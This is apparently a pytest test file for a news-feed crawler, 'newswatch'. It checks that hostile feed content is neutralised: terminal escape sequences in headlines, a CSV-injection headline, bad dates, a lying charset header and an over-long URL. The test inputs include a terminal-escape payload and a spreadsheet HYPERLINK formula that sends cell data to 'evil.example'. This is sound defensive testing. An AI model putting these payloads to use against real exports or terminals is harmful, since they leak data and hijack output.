"""What a feed or a page may smuggle or lie about, and what newswatch makes of it: terminal escape
sequences in a headline never reach the terminal, a headline written as a spreadsheet formula is
inert in the CSV export, a date with an impossible time-zone offset costs only that date (not the
feed's other entries), a date in the future is no date, and a header calling a UTF-8 page UTF-16
does not turn it into nonsense. All through the installed command on the fixture news web."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

from newswatch.scheduler.newsweb import render_dates
from tests.conftest import json_lines, run_newswatch, write_config

PARAGRAPHS = [
    "A joint working group on critical minerals met in New Delhi under the iCET initiative and agreed"
    " on a list of projects for processing lithium and rare earths in both countries.",
    "The group will report to the national security advisers before the next dialogue, officials said,"
    " and industry from both sides is invited to the first round of consultations.",
]
ESCAPES = "Minerals pact &#x1b;[31mred&#x1b;[0m &#x1b;]0;PWNED&#x07; iCET \u009b31m talks"
FORMULA = '=HYPERLINK("http://evil.example/?x="&amp;A1,"iCET minerals")'


def _untitled(paragraphs: list[str]) -> str:
    """A page without a title of its own: the feed's headline is the article's."""
    return "<html><body><article>" + "".join(f"<p>{p}</p>" for p in paragraphs) + "</article></body></html>"


def _publish(newsweb, items: list[tuple[str, str, str]]) -> str:
    """Serve one untitled page per (slug, headline, pubDate) under /lies/ and a feed listing them."""
    feed = ""
    for n, (slug, headline, date) in enumerate(items):
        body = [f"{p} Report {n} on {slug}." for p in PARAGRAPHS]  # different texts: not copies
        newsweb.serve(f"/lies/{slug}.html", _untitled(body))
        feed += f"<item><title>{headline}</title><link>/lies/{slug}.html</link><pubDate>{date}</pubDate></item>"
    rss = f'<?xml version="1.0"?><rss version="2.0"><channel><title>lies</title>{feed}</channel></rss>'
    newsweb.serve("/lies/feed.rss", render_dates(rss, newsweb.now), "application/rss+xml")
    return f'[[sources]]\nname = "lies"\ntype = "feed"\nurl = "{newsweb.url("lies/feed.rss")}"\ninterval = "5m"\n'


def _crawl(tmp_path, newsweb, items) -> tuple:
    config = write_config(tmp_path / "n.toml", newsweb, sources=_publish(newsweb, items))
    result = run_newswatch("crawl", "--no-alerts", config=config)
    assert result.returncode == 0, result.stderr
    stored = {a["url"].rsplit("/", 1)[1]: a for a in json_lines(run_newswatch("export", "--all", config=config).stdout)}
    return config, stored, result


def test_terminal_escape_sequences_in_a_headline_never_reach_the_terminal(tmp_path, newsweb):
    config, stored, _ = _crawl(tmp_path, newsweb, [("escapes", ESCAPES, "{{rfc822:-20m}}")])
    title = stored["escapes.html"]["title"]
    assert title.startswith("Minerals pact [31mred[0m ]0;PWNED iCET") and title.endswith("31m talks")
    for command in (("articles",), ("stories",), ("show", str(stored["escapes.html"]["id"])), ("search", "minerals")):
        result = run_newswatch(*command, config=config)
        assert result.returncode == 0, result.stderr
        assert "Minerals pact" in result.stdout, command
        assert not any(ch in result.stdout for ch in "\x1b\x07\x9b"), command


def test_a_headline_written_as_a_formula_is_inert_in_the_csv_export(tmp_path, newsweb):
    config, _, _ = _crawl(tmp_path, newsweb, [("formula", FORMULA, "{{rfc822:-20m}}")])
    exported = run_newswatch("export", "--all", "--format", "csv", config=config)
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert rows[0]["title"] == "'" + FORMULA.replace("&amp;", "&")
    assert rows[0]["id"] == "1" and float(rows[0]["icet score"]) > 0  # numbers stay numbers


def test_an_impossible_time_zone_costs_only_its_date_not_the_feeds_other_entries(tmp_path, newsweb):
    odd = datetime.now(UTC).strftime("%a, %d %b %Y %H:%M:%S +2500")  # no place is 25 hours ahead
    items = [
        ("good", "Minerals group meets under iCET", "{{rfc822:-30m}}"),
        ("offset", "Minerals group names its projects under iCET", odd),
    ]
    config, stored, _ = _crawl(tmp_path, newsweb, items)
    assert {"good.html", "offset.html"} <= stored.keys()
    assert stored["good.html"]["published_at"] is not None
    source = json_lines(run_newswatch("sources", "--json", config=config).stdout)[0]
    assert source["status"] == "ok" and not source["error"]


def test_a_listing_date_in_the_future_is_no_date(tmp_path, newsweb):
    ahead = (datetime.now(UTC) + timedelta(days=400)).strftime("%a, %d %b %Y %H:%M:%S +0000")
    config, stored, _ = _crawl(tmp_path, newsweb, [("future", "Minerals group looks ahead under iCET", ahead)])
    article = stored["future.html"]
    assert article["published_at"] is None or article["published_at"] <= article["fetched_at"]
    recent = json_lines(run_newswatch("articles", "--since", "1h", "--json", config=config).stdout)
    assert [a["id"] for a in recent] == [article["id"]]


def test_a_header_calling_a_utf8_page_utf16_is_not_believed(tmp_path, newsweb):
    sources = _publish(newsweb, [("lying", "Minerals group meets under iCET", "{{rfc822:-20m}}")])
    page = _untitled([*PARAGRAPHS, "खनिज समूह की बैठक नई दिल्ली में हुई।"])
    newsweb.serve("/lies/lying.html", page.encode("utf-8"), "text/html; charset=utf-16")
    config = write_config(tmp_path / "n.toml", newsweb, sources=sources)
    assert run_newswatch("crawl", "--no-alerts", config=config).returncode == 0
    stored = json_lines(run_newswatch("export", "--all", config=config).stdout)
    assert len(stored) == 1 and "critical minerals met in New Delhi" in stored[0]["text"]
    assert "खनिज समूह की बैठक" in stored[0]["text"] and stored[0]["topics"]


def test_a_link_too_long_to_fetch_fails_once_with_that_reason(tmp_path, newsweb):
    long_slug = "minerals-" + "x" * 9000
    sources = _publish(newsweb, [(long_slug, "Minerals group meets under iCET", "{{rfc822:-20m}}")])
    config = write_config(tmp_path / "n.toml", newsweb, sources=sources)
    assert run_newswatch("crawl", "--no-alerts", config=config).returncode == 0
    pages = json_lines(run_newswatch("sources", "--pages", "--json", config=config).stdout)
    assert len(pages) == 1 and pages[0]["status"] == "failed", pages
    assert "URL longer than 8192 characters" in pages[0]["reason"]
    assert run_newswatch("crawl", "--no-alerts", config=config).returncode == 0
    assert not any(url.startswith("/lies/minerals-") for _, url, _ in newsweb.requests)  # never fetched
